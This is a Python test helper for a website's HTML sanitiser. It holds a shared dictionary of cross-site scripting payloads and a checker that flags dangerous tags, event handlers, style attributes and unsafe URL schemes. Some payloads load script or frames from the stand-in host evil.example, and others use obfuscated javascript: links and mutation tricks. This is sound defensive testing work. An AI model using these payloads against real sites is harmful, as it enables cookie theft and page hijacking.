"""Cross-site scripting: the payloads every way in is tried with, and a check for what in
an HTML fragment could run script, load another document or restyle the page."""

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

# One list for the sanitiser's tests (tests/press/test_sanitise.py), the pages' tests
# (tests/test_xss.py) and the admin's (tests/press/test_workflow_publishing.py): by name.
XSS_PAYLOADS = {
    "script tag": "<script>alert('xss')</script>",
    "script tag with source": '<script src="https://evil.example/x.js"></script>',
    "script in capitals": "<SCRIPT>alert('xss')</SCRIPT>",
    "nested script": "<<script>alert('xss');//<</script>",
    "img onerror": "<img src=x onerror=alert('xss')>",
    "img onerror quoted": '<img src="x" onerror="alert(document.cookie)">',
    "img javascript src": '<img src="javascript:alert(1)">',
    "javascript link": "<a href=\"javascript:alert('xss')\">click</a>",
    "mixed-case javascript link": '<a href="jAvAsCrIpT:alert(1)">click</a>',
    "javascript link with spaces": '<a href="  javascript:alert(1)">click</a>',
    "javascript link with tab": '<a href="java\tscript:alert(1)">click</a>',
    "javascript link with entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "vbscript link": '<a href="vbscript:msgbox(1)">click</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data link in capitals": '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    "svg onload": "<svg onload=alert('xss')><circle r=10></circle></svg>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "body onload": "<body onload=alert('xss')>",
    "style attribute": '<p style="background:url(javascript:alert(1))">styled</p>',
    "style attribute with expression": '<p style="width: expression(alert(1))">styled</p>',
    "style attribute on a link": '<a href="https://www.osce.org/" style="position:fixed">x</a>',
    "style attribute on an image": '<img src="https://www.osce.org/x.png" style="width:100%">',
    "style attribute on a cell": '<table><tr><td style="color:red">cell</td></tr></table>',
    "style element": "<style>body { background: url(javascript:alert(1)) }</style>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": "<iframe srcdoc=\"<script>alert('xss')</script>\"></iframe>",
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="javascript:alert(1)"><button>go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "comment": "<!-- <script>alert('xss')</script> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "event handler on allowed tag": "<p onclick=\"alert('xss')\">click me</p>",
    "event handler on link": '<a href="https://www.osce.org/" onmouseover="alert(1)">OSCE</a>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror=alert("xss")>',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "encoded tab in image source": "<img src=\"jav&#x09;ascript:alert('xss')\">",
    # Payloads aimed at the pages rather than at the sanitiser: breaking out of an attribute,
    # the title or a textarea, entities and NULs inside a scheme or a tag name, text that is
    # markup only if a page forgot to escape it, and template syntax.
    "short script tag": "<script>alert(1)</script>",
    "img onerror unquoted": "<img src=x onerror=alert(1)>",
    "svg onload alone": "<svg onload=alert(1)>",
    "attribute breakout into a script": '"><script>alert(1)</script>',
    "single-quoted attribute breakout": "' onmouseover='alert(1)",
    "double-quoted attribute breakout": '" onmouseover="alert(1)" x="',
    "title breakout": "</title><script>alert(1)</script>",
    "textarea breakout": "</textarea><script>alert(1)</script>",
    "short javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link with an encoded tab": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript link with one entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript link with a space and mixed case": '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "javascript address as text": "javascript:alert(1)",
    "iframe srcdoc short": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style expression on a div": '<div style="width: expression(alert(1))">x</div>',
    "style element importing javascript": '<style>@import "javascript:alert(1)";</style>',
    "math mglyph mutation": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    ),
    "button formaction": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "object with an html data address": (
        '<object data="data:text/html,<script>alert(1)</script>"></object>'
    ),
    "body onload unquoted": "<body onload=alert(1)>",
    "script tag split by a script tag": "<<script>script>alert(1)<</script>/script>",
    "escaped script tag as text": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "NUL in a tag name": "<scr\x00ipt>alert(1)</script>",
    "base javascript href": '<base href="javascript:alert(1)//">',
    "template syntax": "{{ 7*7 }}{% debug %}",
}
# The payloads that are text to a browser as they stand, not markup: they would run only
# where a page put them unescaped inside a tag, an address or a template. No checker can
# find markup in them; they test the escaping. (A NUL breaks the tag name for browsers too.)
AS_TEXT = {
    "single-quoted attribute breakout",
    "double-quoted attribute breakout",
    "javascript address as text",
    "escaped script tag as text",
    "NUL in a tag name",
    "template syntax",
}

SAFE_SCHEMES = {"", "http", "https", "mailto"}
# Tags that can run script, load other documents or restyle the page: never in a page.
DANGEROUS_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "base", "form", "input", "button", "textarea", "select", "meta", "link",
    "noscript", "template", "xml", "marquee", "video", "audio", "source",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}


class Markup(HTMLParser):
    """Everything an HTML fragment would make a browser build: tags, attributes, comments."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.attributes = []  # (tag, name, value)
        self.comments = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)


def url_scheme(value):
    """The scheme a browser would read: it ignores spaces and control characters in it."""
    cleaned = re.sub(r"[\x00-\x20]", "", value)
    return urlsplit(cleaned).scheme.lower()


def unsafe_markup(html):
    """What in ``html`` could run script, load another document or restyle the page."""
    markup = Markup(html)
    problems = [f"<{tag}>" for tag in markup.tags if tag in DANGEROUS_TAGS]
    problems += [f"{tag} {name}" for tag, name, _ in markup.attributes if name.startswith("on")]
    problems += [f"{tag} style" for tag, name, _ in markup.attributes if name == "style"]
    problems += [
        f"{tag} {name}={value!r}"
        for tag, name, value in markup.attributes
        if name in URL_ATTRIBUTES and url_scheme(value) not in SAFE_SCHEMES
    ]
    problems += [f"<!--{comment}-->" for comment in markup.comments]
    return problems
